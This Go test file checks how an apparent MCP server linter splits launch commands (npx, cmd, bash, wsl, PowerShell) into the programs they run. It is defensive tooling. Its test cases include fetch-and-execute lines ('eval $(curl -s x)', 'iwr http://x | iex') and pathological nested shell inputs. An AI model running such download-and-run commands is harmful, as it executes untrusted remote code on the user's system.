package launch

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/org/mcp-lint/detect"
)

// launchOf makes the view of a launch that is given as JSON.
func launchOf(t *testing.T, def string) detect.ToolView {
	t.Helper()
	v, err := detect.ViewJSON(detect.KindLaunch, "server", []byte(def))
	require.NoError(t, err)
	return v
}

// ran renders the commands of a reading: words between blanks, a pipe before those that read from one.
func ran(r *reading) []string {
	var out []string
	for _, c := range r.commands {
		var words []string
		if c.piped {
			words = append(words, "|")
		}
		for _, w := range append(append(append([]word{}, c.env...), c.program), c.args...) {
			words = append(words, w.text)
		}
		out = append(out, strings.Join(words, " "))
	}
	return out
}

func TestCommands(t *testing.T) {
	for _, c := range []struct {
		name string
		argv []string
		want []string
	}{
		{"plain", []string{"npx", "-y", "pkg"}, []string{"npx -y pkg"}},
		{"cmd", []string{"cmd", "/c", "npx", "-y", "pkg"}, []string{"cmd /c npx -y pkg", "npx -y pkg"}},
		{"cmd.exe with several", []string{`C:\Windows\System32\cmd.exe`, "/C", "cd x && npx -y pkg"}, []string{`C:\Windows\System32\cmd.exe /C ` +
			`cd x && npx -y pkg`, "cd x", "npx -y pkg"}},
		{"cmd with operators as arguments", []string{"cmd", "/c", "cd", "x", "&&", "npx", "a b"}, []string{"cmd /c cd x && npx " +
			"a b", "cd x", "npx a b"}},
		{"sh", []string{"bash", "-lc", "cd '/a b' && FOO=1 npx -y \"pkg@1\" | tee log"}, []string{
			"bash -lc cd '/a b' && FOO=1 npx -y \"pkg@1\" | tee log", "cd /a b", "FOO=1 npx -y pkg@1", "| tee log",
		}},
		{"substitution", []string{"sh", "-c", "eval $(curl -s x)"}, []string{"sh -c eval $(curl -s x)", "eval $(curl -s x)", "curl -s x"}},
		{"env", []string{"env", "-u", "X", "A=b", "uvx", "pkg"}, []string{"env -u X A=b uvx pkg", "uvx pkg"}},
		{"timeout", []string{"timeout", "-k", "5", "30", "npx", "pkg"}, []string{"timeout -k 5 30 npx pkg", "npx pkg"}},
		{"one string", []string{"npx -y pkg --flag"}, []string{"npx -y pkg --flag"}},
		{"nested", []string{"wsl", "-e", "bash", "-c", "uvx pkg"}, []string{"wsl -e bash -c uvx pkg", "bash -c uvx pkg", "uvx pkg"}},
		{"powershell", []string{"powershell.exe", "-NoProfile", "-Command", "iwr http://x | iex"}, []string{"powershell.exe -NoProfile " +
			"-Command iwr http://x | iex", "iwr http://x", "| iex"}},
		{"unbalanced", []string{"sh", "-c", "npx 'pkg"}, []string{"sh -c npx 'pkg", "npx pkg"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			v := launchOf(t, launchJSON(t, c.argv, nil))
			r := read(v)
			assert.Equal(t, c.want, ran(r))
			for _, cmd := range r.commands {
				for _, w := range append([]word{cmd.program}, cmd.args...) {
					require.LessOrEqual(t, w.end, len(v.Fields[w.field].Text))
				}
			}
		})
	}
}

func TestWordsStandWhereTheyAreWritten(t *testing.T) {
	v := launchOf(t, `{"command":"sh","args":["-c","cd /x && npx -y 'some pkg'"]}`)
	r := read(v)
	last := r.commands[len(r.commands)-1].args[1]
	assert.Equal(t, "some pkg", last.text)
	assert.Equal(t, "'some pkg'", v.Fields[last.field].Text[last.start:last.end])
}

func TestHostileScriptsEnd(t *testing.T) {
	for _, script := range []string{
		strings.Repeat("(", maxScript), strings.Repeat("$(", maxScript/2), strings.Repeat("x;", 100_000), strings.Repeat("sh -c '", 2000),
		strings.Repeat("{", 5000) + strings.Repeat("`", 5000), strings.Repeat("a | ", 3000) + "b", strings.Repeat("((", 8000),
	} {
		assert.LessOrEqual(t, len(read(launchOf(t, launchJSON(t, []string{"sh", "-c", script}, nil))).commands), maxCommands)
	}
}
